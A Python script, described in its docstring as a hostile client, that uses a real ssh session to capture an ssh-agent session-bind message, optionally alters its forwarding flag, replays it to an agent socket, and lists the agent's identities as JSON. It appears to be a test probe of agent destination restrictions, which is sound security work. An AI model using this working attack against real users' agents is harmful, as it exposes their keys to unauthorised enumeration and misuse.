"""A hostile client beside an agent's socket, on the far side of a forwarding or on this one. Standard library and ssh only.

Lets a real ssh exchange keys with HOST, so that the server proves itself to a session, takes ssh's own bind for itself, and while that
session lives sends the bind and then a list request to the agent. Prints one line of JSON:
{"bind": answer's type or null, "list": answer's type or null, "identities": [{"blob": base64, "comment": text}], "ssh": its exit code}
A null is an agent that closed the connection or did not answer within 20 s; "bind" is null too with --no-bind.
"""
import argparse
import base64
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile

SUCCESS, LIST, IDENTITIES, EXTENSION = 6, 11, 12, 27


def frame(message):
    return struct.pack(">I", len(message)) + message


def exactly(connection, length):
    data = b""
    while len(data) < length:
        chunk = connection.recv(length - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def receive(connection):
    return exactly(connection, struct.unpack(">I", exactly(connection, 4))[0])


def string(data, offset):
    end = offset + 4 + struct.unpack_from(">I", data, offset)[0]
    return data[offset + 4 : end], end


def ask(agent, message):
    """The agent's answer, or None."""
    try:
        agent.sendall(frame(message))
        return receive(agent)
    except OSError:
        return None


def identities(answer):
    found, offset = [], 5
    for _ in range(struct.unpack_from(">I", answer, 1)[0]):
        blob, offset = string(answer, offset)
        comment, offset = string(answer, offset)
        found.append({"blob": base64.b64encode(blob).decode(), "comment": comment.decode("utf-8", "replace")})
    return found


def attack(path, bind):
    agent = socket.socket(socket.AF_UNIX)
    agent.settimeout(20)
    agent.connect(path)
    bound = None if bind is None else ask(agent, bind)
    listed = ask(agent, bytes([LIST]))
    got = identities(listed) if listed and listed[0] == IDENTITIES else []
    return {"bind": bound[0] if bound else None, "list": listed[0] if listed else None, "identities": got}


options = argparse.ArgumentParser()
options.add_argument("--agent", default=os.environ.get("SSH_AUTH_SOCK"), help="default: SSH_AUTH_SOCK")
options.add_argument("--host", default="127.0.0.1")
options.add_argument("--port", default="22")
options.add_argument("--user", default="root")
options.add_argument("--forwarded", action="store_true", help="set is_forwarding in the bind")
options.add_argument("--no-bind", action="store_true")
options = options.parse_args()
if not options.agent:
    sys.exit("no agent: SSH_AUTH_SOCK is not set")

with tempfile.TemporaryDirectory() as directory:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(directory + "/s")
    listener.listen()
    listener.settimeout(20)
    settings = ["BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "GlobalKnownHostsFile=/dev/null"]
    settings += ["IdentityFile=none", "LogLevel=ERROR", "ConnectTimeout=10", "IdentityAgent=" + listener.getsockname()]
    argv = ["ssh", "-F", "none", *(word for setting in settings for word in ("-o", setting))]
    argv += ["-p", options.port, "-l", options.user, options.host, "true"]
    ssh = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        caller = listener.accept()[0]
        caller.settimeout(20)
        bind = receive(caller)
        if bind[0] != EXTENSION:
            sys.exit("ssh sent no bind")
        # The flag is the last byte of the message.
        bind = bind[:-1] + bytes([options.forwarded])
        caller.sendall(frame(bytes([SUCCESS])))
        # ssh waits for its list, and so the session stays alive, until we are done.
        result = attack(options.agent, None if options.no_bind else bind)
        caller.close()
        # That its login was refused is no news: the session was all that it was for.
        ssh.communicate(timeout=20)
        print(json.dumps({**result, "ssh": ssh.returncode}))
    except OSError as error:
        ssh.kill()
        sys.exit(f"{error}; ssh said: {ssh.communicate()[1].decode(errors='replace')}")
    finally:
        ssh.kill()
